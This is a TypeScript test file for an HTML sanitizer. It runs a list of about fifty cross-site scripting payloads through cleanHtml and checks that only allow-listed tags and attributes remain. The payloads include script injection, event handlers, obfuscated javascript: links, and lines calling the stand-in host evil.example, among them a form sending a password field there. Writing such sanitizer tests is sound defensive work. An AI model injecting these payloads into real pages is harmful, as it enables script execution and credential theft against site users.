import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanHtml } from '../core/records/html.ts';

/** Ways of running code, or of calling a stranger, by formatted text. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="/files/1" onload="alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/files/1/../../auth/logout">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" jav\tascript:alert(1)">a</a>',
  '<a href="jav&#x0A;ascript:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="https://evil.example" onclick="alert(1)" style="position:fixed">a</a>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name="password"><button>a</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="width:expression(alert(1))">a</p>',
  '<p style="text-align:center;position:fixed;top:0">a</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<p id="x" class="login" name="password">a</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>a</p\n onmouseover=alert(1)>',
  "<a href='https://a.mn' title='\"><img src=x onerror=alert(1)>'>a</a>",
  '<p\u0000 onclick=alert(1)>a</p>',
];
/** What may be left: these tags, with these attributes. */
const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z]+(?:="[^"<>]*")?)*)\s*\/?>/g;
const SAFE_ATTRIBUTE =
  /^(?:href="(?:https?:|mailto:|tel:)[^"]*"|target="_blank"|rel="noopener noreferrer nofollow"|src="\/files\/[1-9]\d*"|(?:alt|width|height|start|colspan|rowspan)="[^"]*"|style="text-align:(?:left|right|center|justify)")$/;
const TAGS = new Set(
  'p h1 h2 h3 h4 blockquote pre ul ol li hr br strong b em i u s sub sup mark code span a table thead tbody tr th td img'.split(' '),
);

function dangers(html: string): string[] {
  const rest = html.replace(TAG, (_all, _end, tag: string, attributes: string) => {
    const parts = attributes.match(/[a-z]+(?:="[^"]*")?/g) ?? [];
    return TAGS.has(tag) && parts.every((part) => SAFE_ATTRIBUTE.test(part)) ? '' : `<${tag}${attributes}`;
  });
  return rest.match(/<[^ ]?[^>]*/g) ?? [];
}

describe('formatted text', () => {
  test.each(VECTORS)('loses what could do harm: %s', (vector) => {
    const clean = cleanHtml(`<p>өмнө</p>${vector}<p>дараа</p>`);
    expect(dangers(clean)).toEqual([]);
    expect(clean).toContain('өмнө');
    expect(cleanHtml(clean)).toBe(clean);
  });
  test('keeps what people write', () => {
    const text =
      '<h2>Гарчиг</h2><p style="text-align:center">Тод <strong>үг</strong>, <em>налуу</em></p><ul><li>нэг</li></ul><table><tbody><tr><td colspan="2">1 &lt; 2</td></tr></tbody></table><img src="/files/12" alt="зураг" />';
    expect(cleanHtml(text)).toBe(text);
    expect(cleanHtml('<a href="https://example.mn">холбоос</a>')).toBe(
      '<a href="https://example.mn" rel="noopener noreferrer nofollow" target="_blank">холбоос</a>',
    );
  });
  test('is safe and stays the same when cleaned again, whatever it was made of', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.string(),
      fc.constantFrom('<p>', '</p>', '<', '>', '"', "'", '&lt;', '<!--', '-->', '<b', ' onclick=x'),
      fc.constantFrom(
        '<h1>',
        '<ul>',
        '<li>',
        '</li>',
        '<table>',
        '<td>',
        '</table>',
        '<blockquote>',
        '<a href="https://a.mn">',
        '</a>',
        '<hr>',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const clean = cleanHtml(pieces.join(''));
        expect(dangers(clean)).toEqual([]);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: 1000, examples: [[['<p>', '<b', '<script>alert(1)</script>', '<p>a</p>']]] },
    );
  });
});
